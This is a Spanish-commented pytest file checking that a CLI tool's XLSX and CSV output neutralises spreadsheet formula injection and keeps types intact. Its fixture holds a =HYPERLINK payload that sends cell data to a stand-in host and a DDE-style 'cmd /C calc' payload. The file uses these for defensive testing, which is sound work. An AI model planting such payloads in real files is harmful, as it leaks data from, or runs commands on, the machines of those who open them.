"""Salida segura: ningún dato se vuelve fórmula, y números y teléfonos conservan su tipo."""

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from limonero_cli.errores import ErrorUso
from limonero_cli.hojas import valores
from limonero_cli.hojas.leer import leer_tabla
from limonero_cli.hojas.salida import escribir_csv_seguro, escribir_tabla

CASOS = Path(__file__).resolve().parents[1].parent / "shared" / "casos"
PELIGROSOS = ("=", "+", "-", "@", "\t", "\r")


def tabla_de_inyeccion() -> pd.DataFrame:
    """El caso 21 leído y tipado como lo hace limonero (o un equivalente si ../shared no está)."""
    if (CASOS / "21_injection_values.csv").exists():
        crudo = leer_tabla(CASOS / "21_injection_values.csv").datos
    else:
        crudo = pd.DataFrame(
            {
                "cuenta": ["C001", "C002"],
                "cliente": ['=HYPERLINK("http://example.invalid/?d="&A2,"ver")', "Cliente Dos"],
                "telefono": ["+52 55 1234 5678", "5512345678"],
                "saldo": ["-150,00", "200,00"],
                "observacion": ["cliente molesto", "@SUM(1+1)*cmd|' /C calc'!A0"],
            }
        )
    return pd.DataFrame(
        {
            "cuenta": crudo["cuenta"],
            "cliente": crudo["cliente"],
            "telefono": valores.a_telefonos(crudo["telefono"])[0],
            "saldo": valores.a_monto(crudo["saldo"])[0],
            "observacion": crudo["observacion"],
        }
    )


def test_xlsx_sin_formulas_y_con_tipos(tmp_path):
    datos = tabla_de_inyeccion()
    ruta = escribir_tabla(tmp_path / "salida.xlsx", datos)
    hoja = openpyxl.load_workbook(ruta).active
    celdas = [c for fila in hoja.iter_rows(min_row=2) for c in fila if c.value is not None]
    assert all(c.data_type != "f" for c in celdas)
    textos_peligrosos = [c for c in celdas if isinstance(c.value, str) and c.value.startswith(PELIGROSOS)]
    assert textos_peligrosos, "el caso trae textos que empiezan como fórmula"
    assert all(c.quotePrefix for c in textos_peligrosos)
    encabezado = [c.value for c in hoja[1]]
    saldo = hoja.cell(row=2, column=encabezado.index("saldo") + 1).value
    telefono = hoja.cell(row=2, column=encabezado.index("telefono") + 1).value
    assert saldo == -150 and isinstance(saldo, (int, float))
    assert telefono == "525512345678"
    cliente = hoja.cell(row=2, column=encabezado.index("cliente") + 1).value
    assert cliente.startswith("=HYPERLINK")  # el texto se conserva tal cual, solo que como texto literal


def test_csv_sin_formulas_y_con_tipos(tmp_path):
    ruta = escribir_csv_seguro(tmp_path / "salida.csv", tabla_de_inyeccion())
    with open(ruta, encoding="utf-8-sig", newline="") as archivo:
        filas = list(csv.DictReader(archivo))
    for fila in filas:
        for columna, valor in fila.items():
            if columna == "saldo":
                float(valor)  # los números se escriben como números, aunque sean negativos
            else:
                assert not valor.startswith(PELIGROSOS), (columna, valor)
    assert filas[0]["saldo"] == "-150"
    assert filas[0]["telefono"] == "525512345678"
    assert filas[0]["cliente"].startswith("'=HYPERLINK")


def test_salida_existente_no_se_reemplaza_sin_permiso(tmp_path):
    ruta = tmp_path / "salida.csv"
    ruta.write_text("no tocar")
    with pytest.raises(ErrorUso, match="--sobrescribir"):
        escribir_csv_seguro(ruta, pd.DataFrame({"a": [1]}))
    assert ruta.read_text() == "no tocar"
    escribir_csv_seguro(ruta, pd.DataFrame({"a": [1]}), sobrescribir=True)
    assert "a" in ruta.read_text(encoding="utf-8-sig")


def test_escritura_fallida_no_deja_archivo_a_medias(tmp_path):
    class Explota:
        def __str__(self):
            raise RuntimeError("falla a mitad de camino")

    with pytest.raises(RuntimeError):
        escribir_csv_seguro(tmp_path / "salida.csv", pd.DataFrame({"a": ["bien", Explota()]}))
    assert list(tmp_path.iterdir()) == []
